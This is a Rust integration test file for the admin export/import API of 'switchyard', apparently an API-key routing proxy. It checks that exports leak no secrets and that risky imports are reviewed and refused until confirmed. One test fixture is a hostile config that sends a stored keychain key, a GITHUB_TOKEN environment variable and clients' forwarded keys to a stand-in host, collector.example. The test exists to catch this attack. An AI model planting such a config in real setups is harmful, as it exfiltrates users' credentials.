//! Export / import of providers over the admin API: no secret ever leaves, a round trip
//! keeps the providers, a broken file is refused with its line, missing keys are reported.

mod common;

use std::sync::Arc;

use common::{env_with, key_of};
use switchyard_core::config::{self, Credential};
use switchyard_core::secrets::{MemoryStore, Secret, SecretStore};
use switchyard_core::{StartOptions, Switchyard};

fn temp_dir(name: &str) -> std::path::PathBuf {
    let d = std::env::temp_dir().join(format!(
        "sy-portable-{name}-{}-{}",
        std::process::id(),
        chrono::Utc::now().timestamp_nanos_opt().unwrap_or(0)
    ));
    std::fs::create_dir_all(&d).expect("dir");
    d
}

#[tokio::test]
async fn export_has_no_secret_and_import_round_trips_asking_for_keys() {
    // The only test in this binary, so setting a variable races with nothing.
    std::env::set_var("SY_PORTABLE_ACCESS_TOKEN", "tok-the-access-token-77");
    let mut e = env_with(3, |c| {
        c.security.access_token = Some(Credential::Env("SY_PORTABLE_ACCESS_TOKEN".into()));
        c.security.local_without_token = true;
    })
    .await;
    let r = e.get("/api/export").await;
    assert_eq!(r.status, 200);
    assert_eq!(
        r.header("content-disposition"),
        Some("attachment; filename=\"switchyard-providers.toml\"")
    );
    let text = r.text.clone();
    for id in ["p1", "p2"] {
        assert!(!text.contains(&key_of(id)), "the key of {id} leaked");
        assert!(
            text.contains(&format!("# {id}: needs a key after import")),
            "{text}"
        );
    }
    assert!(!text.contains("tok-the-access-token") && !text.contains("access_token"));
    assert!(!text.contains("[security]"));
    let original = e.sy.config().providers.clone();

    // Into a second Switchyard with its own config file and an empty keychain.
    let dir = temp_dir("rt");
    let path = dir.join("config.toml");
    std::fs::write(
        &path,
        "[[providers]]\nid = \"local\"\nbase_url = \"http://127.0.0.1:9\"\ncredential = \"none\"\n",
    )
    .expect("write");
    let store = Arc::new(MemoryStore::new());
    store
        .set("p2", &Secret::new(&key_of("p2")).expect("key"))
        .expect("set");
    let sy2 = Switchyard::start(StartOptions {
        config: config::load_file(&path).expect("valid"),
        config_path: Some(path.clone()),
        secrets: store.clone(),
        listen_override: Some("127.0.0.1:0".parse().expect("addr")),
    })
    .await
    .expect("start");
    let http = reqwest::Client::builder()
        .no_proxy()
        .build()
        .expect("client");
    // p0 forwards the client's key and p2's key is already in this keychain: both need the
    // user's word.
    let r = http
        .post(format!("{}/api/import?mode=merge", sy2.url()))
        .header("content-type", "application/toml")
        .body(text.clone())
        .send()
        .await
        .expect("import");
    assert_eq!(r.status(), 409);
    let v: serde_json::Value = serde_json::from_str(&r.text().await.expect("text")).expect("json");
    assert_eq!(v["confirm_required"], true);
    let risks: Vec<_> = v["review"]["providers"]
        .as_array()
        .expect("providers")
        .iter()
        .filter(|p| !p["risks"].as_array().expect("risks").is_empty())
        .map(|p| (p["id"].clone(), p["risks"].clone()))
        .collect();
    assert_eq!(risks.len(), 2, "{risks:?}");
    assert_eq!(risks[0].0, "p0");
    assert_eq!(
        risks[0].1[0]["risk"], "forwards_client_key",
        "p0 is passthrough"
    );
    assert_eq!(
        risks[1],
        (
            serde_json::json!("p2"),
            serde_json::json!([{"risk": "uses_stored_key", "entry": "p2"}])
        )
    );
    assert_eq!(sy2.config().providers.len(), 1, "nothing imported");
    let r = http
        .post(format!("{}/api/import?mode=merge&confirm=true", sy2.url()))
        .header("content-type", "application/toml")
        .body(text.clone())
        .send()
        .await
        .expect("import");
    assert_eq!(r.status(), 200);
    let v: serde_json::Value = serde_json::from_str(&r.text().await.expect("text")).expect("json");
    assert_eq!(v["added"], serde_json::json!(["p0", "p1", "p2"]));
    assert_eq!(
        v["needs_key"],
        serde_json::json!(["p1"]),
        "p2's key is already there"
    );
    let cfg = sy2.config();
    assert_eq!(
        cfg.providers[0].id, "local",
        "existing providers stay first"
    );
    assert_eq!(&cfg.providers[1..], &original[..]);
    let saved = config::load_file(&path).expect("saved");
    assert_eq!(saved.providers, cfg.providers);
    assert!(dir.join("config.toml.bak").exists());

    // A broken file: 400 with the line, nothing changed.
    let before = std::fs::read_to_string(&path).expect("read");
    let r = http
        .post(format!("{}/api/import", sy2.url()))
        .header("content-type", "application/toml")
        .body("[[providers]]\nid = \"ok\"\nbase_url = 42\n")
        .send()
        .await
        .expect("import");
    assert_eq!(r.status(), 400);
    let v: serde_json::Value = serde_json::from_str(&r.text().await.expect("text")).expect("json");
    let msg = v["error"]["message"].as_str().unwrap_or_default();
    assert!(msg.starts_with("import.toml:3:"), "{msg}");
    assert_eq!(std::fs::read_to_string(&path).expect("read"), before);
    let r = http
        .post(format!("{}/api/import?mode=sideways", sy2.url()))
        .header("content-type", "application/toml")
        .body(text.clone())
        .send()
        .await
        .expect("import");
    assert_eq!(r.status(), 400);
    // What an HTML form could send is refused.
    let r = http
        .post(format!("{}/api/import", sy2.url()))
        .header("content-type", "text/plain")
        .body(text)
        .send()
        .await
        .expect("import");
    assert_eq!(r.status(), 415);
    sy2.shutdown().await;
    e.drain_events();
    let _ = std::fs::remove_dir_all(dir);
}

async fn post_import(url: &str, query: &str, body: &str) -> (u16, serde_json::Value) {
    let r = reqwest::Client::builder()
        .no_proxy()
        .build()
        .expect("client")
        .post(format!("{url}/api/import?{query}"))
        .header("content-type", "application/toml")
        .body(body.to_string())
        .send()
        .await
        .expect("import");
    let status = r.status().as_u16();
    let v = serde_json::from_str(&r.text().await.expect("text")).expect("json");
    (status, v)
}

/// A shared file cannot make Switchyard send a secret somewhere new without the user's word:
/// every base URL and credential source is shown first, and each risky import is refused
/// (file byte-identical) until confirmed.
#[tokio::test]
async fn import_shows_everything_and_asks_before_secrets_go_somewhere_new() {
    let dir = temp_dir("review");
    let path = dir.join("config.toml");
    let original = "# mine\n[[providers]]\nid = \"anthropic\"\nbase_url = \"https://api.anthropic.com\"\ncredential = \"keychain\"\n";
    std::fs::write(&path, original).expect("write");
    let store = Arc::new(MemoryStore::new());
    store
        .set(
            "anthropic",
            &Secret::new("sk-ant-mine-0000000000001").expect("key"),
        )
        .expect("set");
    let sy = Switchyard::start(StartOptions {
        config: config::load_file(&path).expect("valid"),
        config_path: Some(path.clone()),
        secrets: store.clone(),
        listen_override: Some("127.0.0.1:0".parse().expect("addr")),
    })
    .await
    .expect("start");
    let url = sy.url();
    let hostile = "[[providers]]\nid = \"gh\"\nkind = \"openai\"\nbase_url = \"https://collector.example/v1\"\ncredential = \"env:GITHUB_TOKEN\"\n\n\
                   [[providers]]\nid = \"anthropic\"\nbase_url = \"https://collector.example\"\ncredential = \"keychain\"\n\n\
                   [[providers]]\nid = \"relay\"\nbase_url = \"https://collector.example\"\ncredential = \"passthrough\"\n";
    // A preview names every URL and credential source and saves nothing.
    let (status, v) = post_import(&url, "mode=replace&preview=true", hostile).await;
    assert_eq!(status, 200, "{v}");
    assert_eq!(v["confirm_required"], true);
    let shown: Vec<(String, String, String)> = v["review"]["providers"]
        .as_array()
        .expect("providers")
        .iter()
        .map(|p| {
            let s = |k: &str| p[k].as_str().unwrap_or_default().to_string();
            (s("id"), s("base_url"), s("credential"))
        })
        .collect();
    assert_eq!(
        shown,
        [
            (
                "anthropic".into(),
                "https://collector.example".into(),
                "keychain".into()
            ),
            (
                "gh".into(),
                "https://collector.example/v1".into(),
                "env:GITHUB_TOKEN".into()
            ),
            (
                "relay".into(),
                "https://collector.example".into(),
                "passthrough".into()
            ),
        ]
    );
    let kinds: Vec<&str> = v["review"]["providers"]
        .as_array()
        .expect("providers")
        .iter()
        .flat_map(|p| p["risks"].as_array().expect("risks"))
        .filter_map(|r| r["risk"].as_str())
        .collect();
    assert_eq!(
        kinds,
        ["key_to_new_url", "reads_env", "forwards_client_key"]
    );
    assert_eq!(std::fs::read_to_string(&path).expect("read"), original);

    // Without confirmation: 409, the message says what and how, the file is untouched.
    let (status, v) = post_import(&url, "mode=replace", hostile).await;
    assert_eq!(status, 409, "{v}");
    let msg = v["error"]["message"].as_str().unwrap_or_default();
    for needle in [
        "gh reads the environment variable GITHUB_TOKEN",
        "anthropic sends its existing key (keychain) to https://collector.example",
        "relay forwards your clients' own API keys",
        "confirm=true",
    ] {
        assert!(msg.contains(needle), "{needle:?} not in {msg}");
    }
    assert!(!msg.contains("sk-ant-mine"));
    assert_eq!(std::fs::read_to_string(&path).expect("read"), original);
    assert_eq!(
        sy.config().providers[0].base_url,
        "https://api.anthropic.com"
    );
    // confirm=false is no confirmation either.
    let (status, _) = post_import(&url, "mode=replace&confirm=false", hostile).await;
    assert_eq!(status, 409);

    // A file that only adds a key-less local provider goes straight in, still reviewed.
    let (status, v) = post_import(
        &url,
        "mode=merge",
        "[[providers]]\nid = \"ollama\"\nkind = \"openai\"\nbase_url = \"http://127.0.0.1:11434/v1\"\ncredential = \"none\"\n",
    )
    .await;
    assert_eq!(status, 200, "{v}");
    assert_eq!(
        v["review"]["providers"][0]["base_url"],
        "http://127.0.0.1:11434/v1"
    );

    // Confirmed: imported as shown.
    let (status, v) = post_import(&url, "mode=replace&confirm=true", hostile).await;
    assert_eq!(status, 200, "{v}");
    assert_eq!(
        sy.config().provider("anthropic").expect("p").base_url,
        "https://collector.example"
    );
    sy.shutdown().await;
    let _ = std::fs::remove_dir_all(dir);
}
